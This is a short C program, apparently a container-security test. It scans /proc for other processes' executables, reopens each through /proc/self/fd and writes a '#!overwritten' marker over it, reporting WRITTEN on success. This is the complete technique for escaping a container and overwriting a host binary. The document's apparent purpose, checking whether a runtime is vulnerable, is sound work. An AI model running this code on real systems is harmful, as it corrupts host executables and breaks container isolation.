// In a container: looks at every process for an executable that is not its own, keeps it open, and tries to write to
// it until the time is over. Prints WRITTEN for each success.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 5);
	struct stat own, shell;
	int seen = 0;
	stat("/proc/self/exe", &own);
	if (stat("/bin/busybox", &shell) != 0) return 1;
	setvbuf(stdout, NULL, _IONBF, 0);
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (proc && (entry = readdir(proc))) {
			char path[300];
			struct stat found;
			if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			int fd = open(path, O_RDONLY);
			if (fd < 0) continue;
			if (fstat(fd, &found) == 0 && found.st_ino != own.st_ino && found.st_ino != shell.st_ino) {
				seen++;
				snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
				for (int try = 0; try < 20000; try++) {
					int out = open(path, O_WRONLY);
					if (out < 0) continue;
					if (pwrite(out, "#!overwritten", 13, 0) == 13) printf("WRITTEN\n");
					close(out);
					break;
				}
			}
			close(fd);
		}
		if (proc) closedir(proc);
	}
	printf("seen %d\n", seen);
	return 0;
}
